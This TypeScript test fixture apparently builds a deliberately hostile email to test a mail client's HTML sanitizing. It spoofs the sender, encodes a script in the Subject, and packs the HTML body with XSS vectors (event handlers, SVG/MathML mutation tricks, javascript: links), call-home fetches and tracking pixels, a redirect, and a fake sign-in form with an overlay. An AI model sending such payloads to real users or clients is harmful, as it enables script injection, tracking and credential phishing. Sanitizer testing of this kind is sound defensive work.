/**
 * A mail whose HTML tries what HTML can: to run scripts, to call home, to lead away and to look like the page around it.
 * Everything it calls is at `home`, over http; one image is at `images`, over https.
 */
export function hostileMail(home: string, images: string): string {
  const steal = `fetch('${home}/fetch');window.name='taken';top.taken=1;alert('taken')`;
  const html = `<!doctype html><html><head>
<base href="${home}/base/" target="_top">
<meta http-equiv="refresh" content="0; url=${home}/refresh">
<meta http-equiv="Content-Security-Policy" content="img-src *">
<link rel="stylesheet" href="${home}/sheet.css"><link rel="prefetch" href="${home}/prefetch"><link rel="preconnect" href="${home}">
<style>@import url("${home}/import.css"); body { background: url("${home}/background.png") } @font-face { font-family: x; src: url(${home}/font) }</style>
<script src="${home}/script.js"></script><script>${steal}</script>
</head><body onload="${steal}" background="${home}/body.png" style="background-image: url(${home}/style.png)">
<p>Dear customer, <b>pay now</b>.</p>
<img src="x" onerror="${steal}"><img src="${home}/pixel.gif" width="1" height="1"><img srcset="${home}/srcset.png 1x">
<img src="${images}/logo.png" alt="Logo"><img src="cid:own@mail" alt="Own">
<picture><source srcset="${home}/picture.png"><img src="//127.0.0.1/relative.png"></picture>
<video src="${home}/video.mp4" poster="${home}/poster.png" autoplay></video><audio src="${home}/audio.mp3" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script><image href="${home}/svg.png"/><animate onbegin="${steal}" attributeName="x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${steal}&gt;"></table></mtext></math>
<iframe src="${home}/frame"></iframe><iframe srcdoc="<script>${steal}</script>"></iframe>
<object data="${home}/object"></object><embed src="${home}/embed"><applet code="x"></applet>
<form action="${home}/form" method="post"><input name="password" autofocus onfocus="${steal}"><button id="go">Sign in</button></form>
<a href="javascript:${steal}">a link that runs</a> <a href="data:text/html,<script>${steal}</script>">a link with data</a>
<a href="${home}/link" ping="${home}/ping">a link</a>
<div style="position: fixed; inset: 0; z-index: 9999; background: white; content: url(${home}/content.png)">Your session has ended</div>
<div style="width: expression(alert(1)); behavior: url(${home}/behaviour)">old</div>
<template><img src="${home}/template.png"></template><noscript><img src="${home}/noscript.png"></noscript>
<textarea></textarea><img src="${home}/after.png"><xmp></xmp><title></title><img src=x onerror="${steal}">
</body></html>`;
  return [
    'From: "Postern <admin@contoso.example>" <eve@evil.example>',
    'To: ada@contoso.example',
    'Subject: =?utf-8?B?PHNjcmlwdD5hbGVydCgndGFrZW4nKTwvc2NyaXB0Pg==?=',
    'Message-ID: <hostile@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary=part',
    '',
    '--part',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    ...(Buffer.from(html)
      .toString('base64')
      .match(/.{1,76}/g) ?? []),
    '--part',
    'Content-Type: image/gif',
    'Content-ID: <own@mail>',
    'Content-Transfer-Encoding: base64',
    '',
    'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
    '--part',
    'Content-Type: text/html; name="report.html"',
    'Content-Disposition: attachment; filename="report.html"',
    '',
    `<script>${steal}</script>`,
    '--part--',
    '',
  ].join('\r\n');
}
